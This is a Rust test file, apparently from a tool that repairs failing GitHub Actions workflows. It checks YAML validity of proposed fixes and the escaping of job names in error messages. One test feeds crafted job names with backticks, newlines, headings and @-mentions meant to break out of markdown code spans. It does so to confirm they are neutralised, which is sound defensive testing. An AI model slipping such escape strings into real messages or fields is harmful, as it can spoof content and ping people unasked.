        let first = if install { format!("{prefix} pip install {line}") } else { format!("{prefix}{line}") };
        let wf = python_workflow_with_line(&first);
        let f = missing_module("yaml", "test", "Tests");
        if let Ok(fix) = Run::new(&wf).propose(&f) {
            let new = fix.new_text(".github/workflows/ci.yml").unwrap_or(&wf);
            proptest::prop_assert!(serde_yaml::from_str::<serde_yaml::Value>(new).is_ok(), "{new}");
            preserved(&wf, new, 1);
        }
    }
}

// --- names in reasons ----------------------------------------------------------

/// Job ids (and what a job calls) sit in code spans that a backtick or a
/// newline in them cannot end: a quoted YAML key can hold both.
#[test]
fn names_in_reasons_are_code_spans_they_cannot_end() {
    let wf = "on: push\njobs:\n  \"a`b\\n## @team\":\n    uses: \"./x.yml`\\n@o\"\n";
    let doc = yaml::Doc::parse(wf).expect("yaml");
    let no_job = locate::find_job(&doc, None, Some("x`\n@y")).map(|j| j.id);
    assert_eq!(
        no_job,
        Err(Unfixable::NotApplicable(
            "the workflow has no job `x' @y`".into()
        ))
    );
    let shown = locate::find_job(&doc, Some("z`\n@q"), None).map(|j| j.id);
    assert_eq!(
        shown,
        Err(Unfixable::NotApplicable(
            "no job of the workflow matches the failed job `z' @q`".into()
        ))
    );
    let job = locate::find_job(&doc, None, Some("a`b\n## @team")).expect("job");
    let reason = locate::require_steps(&doc, &job)
        .map(|_| ())
        .err()
        .map(|e| e.to_string());
    assert_eq!(
        reason.as_deref(),
        Some(
            "job `a'b ## @team` calls the reusable workflow `./x.yml' @o`; the failure is in that workflow, which has to be fixed instead"
        )
    );
    let wf = "on: push\njobs:\n  \"c`\\nd\":\n    runs-on: x\n";
    let doc = yaml::Doc::parse(wf).expect("yaml");
    let job = locate::find_job(&doc, None, Some("c`\nd")).expect("job");
    let reason = locate::require_steps(&doc, &job)
        .map(|_| ())
        .err()
        .map(|e| e.to_string());
    assert_eq!(
        reason.as_deref(),
        Some("the workflow file cannot be read: job `c' d` has no steps")
    );
}

// --- the workflow token's login -------------------------------------------------

/// Trust's name for the workflow token's login is the client's constant,
/// not a copy that could drift from it: two glob imports that bring in
/// different items of one name make any use of that name ambiguous, so
/// this module compiles only while both name the same item.
mod one_login_for_the_workflow_token {
    use crate::github::*;
    // The import is the check: it makes `ACTIONS_BOT` ambiguous unless both
    // modules name the same item.
    #[allow(unused_imports)]
    use crate::heal::trust::*;

    #[test]
    fn trust_and_the_client_name_one_constant() {
        assert!(Identity::default().is_ours(ACTIONS_BOT));
        assert!(
            Identity::default()
                .logins()
                .iter()
                .any(|l| l == ACTIONS_BOT)
        );
    }
}
